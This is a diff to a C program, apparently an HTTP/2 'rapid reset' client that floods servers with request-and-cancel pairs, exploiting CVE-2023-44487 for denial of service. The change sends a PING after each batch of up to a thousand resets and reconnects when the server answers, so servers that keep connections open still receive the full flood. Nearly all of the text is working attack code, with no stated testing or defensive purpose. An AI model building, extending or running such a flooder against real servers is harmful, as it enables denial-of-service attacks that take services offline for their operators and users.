@@ -1,7 +1,9 @@
 /*
  * resets: a client of HTTP/2 that asks and resets what it has asked for, again and again, as many
- * times a second as it is told or can (CVE-2023-44487).  A connection has a thousand of them at most;
- * when the server ends it, there is another one.  A reset counts when the socket has taken it.  Linux.
+ * times a second as it is told or can (CVE-2023-44487).  A connection sends at most a thousand of
+ * them and then a PING.  Another one follows when the server ends it or answers the PING, so that
+ * servers which do not end it get as many resets as the others.  A reset counts when the socket has
+ * taken it.  Linux.
  */
 #include <err.h>
 #include <errno.h>
@@ -22,8 +24,10 @@
 #define TURN	 10   /* ms */
 #define MOST_DUE 2000 /* resets that are caught up with at once */
 #define CALM	 11   /* ENHANCE_YOUR_CALM */
+#define PONG	 256  /* no error: the PING was answered */
+#define PING	 8    /* bytes of its payload */
 
-/* The server's frames, of which only a GOAWAY is looked at. */
+/* The server's frames, of which only a GOAWAY and the answer to the PING are looked at. */
 struct walk {
 	unsigned char w_head[17]; /* with the payload's first eight bytes */
 	size_t w_got, w_skip;
@@ -64,13 +68,23 @@ put_pair(struct resets *r, uint32_t stream)
 	r->r_len += sizeof(cancel);
 }
 
+/* The server answers it when it has read all before it. */
+static void
+put_ping(struct resets *r)
+{
+	r->r_len += frames_head(r->r_text + r->r_len, PING, FRAME_PING, 0, 0);
+	memset(r->r_text + r->r_len, 0, PING);
+	r->r_len += PING;
+}
+
 static void
 build(struct resets *r)
 {
 	const size_t preface = sizeof(FRAMES_PREFACE) - 1;
 
-	r->r_text = malloc(
-	    preface + FRAMES_HEAD + PAIRS * (FRAMES_REQUEST + FRAMES_HEAD + 4));
+	r->r_text = malloc(preface + FRAMES_HEAD +
+			   PAIRS * (FRAMES_REQUEST + FRAMES_HEAD + 4) +
+			   FRAMES_HEAD + PING);
 	if (r->r_text == NULL)
 		err(1, NULL);
 	memcpy(r->r_text, FRAMES_PREFACE, preface);
@@ -81,6 +95,7 @@ build(struct resets *r)
 	r->r_pair = r->r_len - r->r_begin;
 	for (uint32_t i = 1; i < PAIRS; i++)
 		put_pair(r, 2 * i + 1);
+	put_ping(r);
 }
 
 /* ------------------------------------------------------------ connections */
@@ -165,7 +180,7 @@ send_due(struct resets *r)
 
 /* ------------------------------------------------------------ what comes */
 
-/* The error of a GOAWAY, or -1. */
+/* The error of a GOAWAY, PONG, or -1. */
 static int
 take(struct walk *w, const unsigned char *data, size_t len)
 {
@@ -189,6 +204,8 @@ take(struct walk *w, const unsigned char *data, size_t len)
 				continue;
 			return w->w_head[16];
 		}
+		if (w->w_head[3] == FRAME_PING)
+			return PONG;
 		w->w_skip = payload;
 		w->w_got = 0;
 	}
@@ -209,7 +226,7 @@ receive(struct resets *r)
 	if (n > 0 && error == -1)
 		return;
 	r->r_calmed += error == CALM;
-	r->r_ended += error != CALM;
+	r->r_ended += error != CALM && error != PONG;
 	leave(r);
 }
 
